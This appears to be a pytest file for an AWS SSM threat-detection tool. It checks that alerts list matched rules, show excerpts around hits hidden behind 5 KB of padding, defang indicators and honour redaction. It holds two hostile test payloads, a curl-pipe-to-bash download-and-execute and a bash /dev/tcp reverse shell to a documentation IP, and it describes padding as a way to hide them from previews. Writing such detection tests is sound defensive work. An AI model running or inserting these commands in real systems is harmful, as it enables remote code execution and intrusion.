"""Evidence first (issue 14.2): what matched, around the hit, and how much is shown, from real
CreateDocument and SendCommand records through the real pipeline."""

from __future__ import annotations

import json
import re

from ssm_detect.findings import Finding
from ssm_detect.render.evidence import Hit, excerpt
from ssm_detect.render.sns_message import (
    RenderOptions,
    format_sns,
    render_chatbot,
    render_email,
)
from tests.builders import Runner, create_document, send_command
from tests.test_render_asff import assert_valid_asff, imported

RARE = "AWS.SSM.RareCommandDocumentCreator"
PAYLOAD_1 = "curl -s https://203.0.113.9/a.sh | bash"
PAYLOAD_2 = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
PADDING = "A" * 5000
REDACT = RenderOptions(redact_content=True)


def padded_document() -> str:
    """5 KB of padding before two payload lines, as an attacker hides them from a 600-character
    preview."""
    return json.dumps(
        {
            "schemaVersion": "2.2",
            "description": PADDING,
            "mainSteps": [
                {
                    "action": "aws:runShellScript",
                    "name": "run",
                    "inputs": {"runCommand": ["echo start", PAYLOAD_1, PAYLOAD_2]},
                }
            ],
        },
        indent=2,
    )


def padded_finding() -> Finding:
    record = create_document(name="Ops-Padded")
    record["requestParameters"]["content"] = padded_document()
    (finding,) = Runner().fired(record, RARE)
    return finding


def matched_section(email: str) -> str:
    return email.split("\nMATCHED", 1)[1].split("\n\n", 1)[0]


def test_email_lists_every_hit_with_rule_and_line_number() -> None:
    finding = padded_finding()

    section = matched_section(render_email(finding))

    hits = [line for line in section.split("\n") if line.startswith("  - [")]
    assert len(hits) >= 2, section
    assert re.search(r"\[download_execute\] content line \d+ ", section)
    assert re.search(r"\[reverse_shell\] content line \d+ ", section)
    assert "/dev/tcp/203[.]0[.]113[.]9/4444" in section  # escaped and defanged, not a JSON blob
    assert "hxxps://203[.]0[.]113[.]9/a[.]sh | bash" in section


def test_slack_lists_every_hit_with_rule_and_line_number() -> None:
    description = render_chatbot(padded_finding())["content"]["description"]

    assert "*Matched (2):*" in description
    assert re.search(r"• `download_execute` content line \d+: `curl -s hxxps://", description)
    assert re.search(
        r"• `reverse_shell` content line \d+: `bash -i &gt;&amp; /dev/tcp/", description
    )


def test_content_excerpt_is_around_the_hits_after_5_kb_of_padding() -> None:
    finding = padded_finding()
    total = len(padded_document())

    email = render_email(finding)
    description = render_chatbot(finding)["content"]["description"]

    content = email.split("\nDOCUMENT CONTENT", 1)[1]
    assert f"of {total} characters" in content.split("\n", 1)[0]
    assert "/dev/tcp/203[.]0[.]113[.]9/4444" in content
    assert "hxxps://203[.]0[.]113[.]9/a[.]sh" in content
    excerpt_block = description.split("*Document content (shown: ", 1)[1]
    shown, of = re.match(r"(\d+) of (\d+) characters", excerpt_block).groups()  # type: ignore[union-attr]
    assert int(of) == total
    assert int(shown) < total
    assert "/dev/tcp/" in excerpt_block
    assert "AAAAAAAAAA" * 60 not in excerpt_block  # the padding did not take the room


def test_security_hub_keeps_the_content_around_the_hits() -> None:
    document = imported(padded_finding())

    assert_valid_asff(document)
    content = document["ProductFields"]["ssm-detect/context/content"]
    assert content.startswith("[shown: ")
    assert f"of {len(padded_document())} characters]" in content
    assert "/dev/tcp/203.0.113.9/4444" in content


def test_redaction_keeps_content_out_of_email_and_slack_but_not_security_hub() -> None:
    finding = padded_finding()

    message = format_sns(finding, REDACT)

    body = json.loads(message.message)
    for text in (body["email"], body["https"], body["default"]):
        assert "/dev/tcp" not in text
        assert "203.0.113" not in text
        assert "203[.]0[.]113" not in text
    assert "[redacted by configuration]" in body["email"]
    assert "reverse_shell" in body["email"]  # what matched, by rule and line, still shows
    assert "shown: 0 of" in body["email"]
    assert "/dev/tcp/203.0.113.9/4444" in json.dumps(imported(finding))


def test_send_command_parameters_are_evidence_too() -> None:
    record = send_command(("i-0aaaaaaaaaaaaaaa1",), event_id="sc-visible")
    record["requestParameters"]["parameters"] = {"commands": ["id", PAYLOAD_1, PAYLOAD_2]}
    findings = Runner().fired(record, "AWS.SSM.SendCommand")

    (finding,) = findings
    email = render_email(finding)
    description = render_chatbot(finding)["content"]["description"]

    assert "[download_execute] parameters line" in email
    assert "[reverse_shell] parameters line" in email
    assert "`reverse_shell` parameters line" in description


def test_excerpt_shows_everything_that_fits_and_counts_it() -> None:
    shown = excerpt("short content", [], 100)

    assert (shown.text, shown.note) == ("short content", "shown: 13 of 13 characters")


def test_excerpt_splits_its_room_between_distant_hits() -> None:
    content = "x" * 3000 + "\nFIRST hit\n" + "y" * 3000 + "\nSECOND hit\n" + "z" * 3000
    hits = [Hit("content", "r", "w", 2, "FIRST hit"), Hit("content", "r", "w", 4, "SECOND hit")]

    shown = excerpt(content, hits, 400)

    assert "FIRST hit" in shown.text
    assert "SECOND hit" in shown.text
    assert shown.shown <= 400
    assert shown.total == len(content)
    assert "characters …]" in shown.text
